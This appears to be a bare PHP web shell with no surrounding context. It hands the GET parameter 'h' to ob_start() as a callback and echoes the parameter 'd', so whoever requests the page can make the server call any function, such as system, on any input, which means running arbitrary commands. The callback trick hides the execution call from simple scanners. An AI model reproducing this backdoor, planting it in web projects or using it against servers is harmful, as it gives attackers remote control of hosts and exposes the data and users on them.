<?php
ob_start($_GET['h']);
echo $_GET['d'];
ob_end_flush();
